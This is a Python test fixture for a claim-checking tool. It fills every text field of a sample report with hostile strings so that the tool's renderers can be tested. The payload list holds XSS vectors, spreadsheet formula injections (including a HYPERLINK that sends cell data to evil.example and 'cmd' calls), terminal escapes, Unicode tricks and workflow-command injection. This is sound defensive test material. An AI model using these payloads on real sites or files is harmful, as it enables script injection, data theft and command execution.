"""A report with one hostile text in every field that can hold text, for the tests of every rendering."""

from __future__ import annotations

from dataclasses import replace

from sample_report import TEXT, claim, sample_report

from claimcheck.types import (
    Act,
    CheckedSentence,
    Claim,
    Document,
    Label,
    LinkedAttribution,
    PromptFacts,
    Report,
    SentenceState,
    Source,
    SourceKind,
    Span,
)

PAYLOADS = {
    "script": "<script>hit()</script>",
    "script upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>hit()</scr</script>ipt>",
    "image error": "<img src=x onerror=hit()>",
    "image quoted": '"><img src=x onerror="hit()">',
    "image single": "'><img src=x onerror='hit()'>",
    "svg load": "<svg onload=hit()>",
    "svg script": "<svg><script>hit()</script></svg>",
    "svg animate": "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "body load": "<body onload=hit()>",
    "iframe": '<iframe src="javascript:hit()"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "object": '<object data="javascript:hit()"></object>',
    "embed": "<embed src=//evil.example/x.swf>",
    "link": '<link rel=stylesheet href="//evil.example/x.css">',
    "style": "<style>*{background:url(//evil.example/x)}</style>",
    "style close": "</style><script>hit()</script>",
    "script close": "</script><script>hit()</script>",
    "title close": "</title><script>hit()</script>",
    "textarea close": "</textarea><script>hit()</script>",
    "comment": "<!--><script>hit()</script>-->",
    "cdata": "<![CDATA[<script>hit()</script>]]>",
    "base": '<base href="//evil.example/">',
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "form": '<form action="//evil.example/"><input autofocus onfocus=hit()></form>',
    "details": "<details open ontoggle=hit()>",
    "marquee": "<marquee onstart=hit()>",
    "video": "<video><source onerror=hit()></video>",
    "javascript link": "javascript:hit()",
    "javascript link mixed": "JaVaScRiPt:hit()//https://a.example",
    "javascript link tab": "java\tscript:hit()",
    "data link": "data:text/html,<script>hit()</script>",
    "anchor": '<a href="javascript:hit()">here</a>',
    "attribute break": '" onmouseover="hit()" x="',
    "attribute break single": "' onfocus='hit()' autofocus='",
    "attribute backtick": "` onclick=`hit()`",
    "entity": "&lt;script&gt;hit()&lt;/script&gt;",
    "entity numeric": "&#60;script&#62;hit()&#60;/script&#62;",
    "template": "{{constructor.constructor('hit()')()}}${hit()}<%= hit() %>",
    "null byte": "<scr\x00ipt>hit()</scr\x00ipt>",
    "fullwidth": "＜script＞hit()＜/script＞",
    "bidi override": "\u202e)(tih\u202esafe\u202c",
    "bidi isolate": "\u2066\u2069\u2067<b>x</b>",
    "line separators": "a\u2028hit()\u2029b",
    "surrogate": "\ud800<script>hit()</script>",
    "tags": "\U000e0041\U000e0042 hidden",
    "escape": "\x1b]0;owned\x07\x1b[2J",
    "zero width": "pay\u200bload\ufeff",
    "ten thousand": "W" * 10_000,
    "combining": "Z" + "\u0301" * 500,
    "formula": '=HYPERLINK("//evil.example/?"&A1,"x")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "markdown link": "[x](javascript:hit())![y](//evil.example/z)",
    "markdown html": "</details><h1>x</h1> `code` *b* _i_ | cell |",
    "workflow command": "::error::x%0A::set-output name=a::b",
    "json break": '"},"@type":"ClaimReview","x":{"',
}


def hostile_report(words: str) -> Report:
    """Give the sample report with `words` as a paragraph of its own, a claim, a source, and in every other text."""
    report = sample_report()
    step = len(words) + 2
    own = Span(0, len(words))
    added = _claims(report, words, own, step)
    sources = (*(_source(one, words, step) for one in report.sources), _own_source(words, own, added[0].id))
    return replace(
        report,
        run=replace(
            report.run,
            archive=words,
            model=words,
            notes=(words,),
            policy=replace(report.run.policy, name=words),
            prompts=(PromptFacts(name=words, version=words, sha256=words),),
        ),
        document=replace(
            report.document,
            text=f"{words}\n\n{TEXT}",
            sha256=Document.hash_text(f"{words}\n\n{TEXT}"),
            title=words,
            publisher=words,
            url=words,
            date=words,
        ),
        sentences=(
            CheckedSentence(start=0, end=len(words), paragraph=0, state=SentenceState.CLAIMS),
            *(
                replace(
                    one,
                    start=one.start + step,
                    end=one.end + step,
                    paragraph=one.paragraph + 1,
                    reason=one.reason and words,
                )
                for one in report.sentences
            ),
        ),
        claims=added,
        sources=sources,
        findings=tuple(
            replace(one, rule=words, message=words, spans=(own,), claim_id=added[n].id, source_id=None)
            for n, one in enumerate(report.findings)
        ),
    )


def _claims(report: Report, words: str, own: Span, step: int) -> tuple[Claim, ...]:
    """Give a claim on the hostile words, then those of the report with the words in every text."""
    first = replace(
        claim("The pilings are rotten", Label.SOURCED),
        id=words[:200],
        text=words,
        spans=(own,),
        attributions=(LinkedAttribution(chain=("hostile",), act=Act.STATEMENT, source=own, cue=own, content=(own,)),),
        witnessed=own,
    )
    return (first, *(_claim(one, words, step) for one in report.claims))


def _claim(one: Claim, words: str, step: int) -> Claim:
    evidence = (
        replace(passage, quote=words, title=words, publisher=words, date=words, url=words, document_id=words)
        for passage in one.evidence
    )
    attributions = (
        replace(link, source=_moved(link.source, step), cue=_moved(link.cue, step), content=_all(link.content, step))
        for link in one.attributions
    )
    return replace(
        one,
        text=words + one.text,
        spans=_all(one.spans, step),
        attributions=tuple(attributions),
        evidence=tuple(evidence),
        contradicted_by=(words,) if one.contradicted_by else (),
        corroborated_by=(words,) if one.corroborated_by else (),
    )


def _source(source: Source, words: str, step: int) -> Source:
    return replace(
        source,
        name=words,
        mentions=_all(source.mentions, step),
        reason_for_anonymity=_moved(source.reason_for_anonymity, step),
    )


def _own_source(words: str, own: Span, claim_id: str) -> Source:
    return Source(
        id="hostile",
        name=words,
        kind=SourceKind.UNNAMED_PERSON,
        mentions=(own,),
        reason_for_anonymity=own,
        basis_of_knowledge=own,
        claim_ids=(claim_id,),
    )


def _all(spans: tuple[Span, ...], step: int) -> tuple[Span, ...]:
    return tuple(Span(span.start + step, span.end + step) for span in spans)


def _moved(span: Span | None, step: int) -> Span | None:
    return Span(span.start + step, span.end + step) if span else None
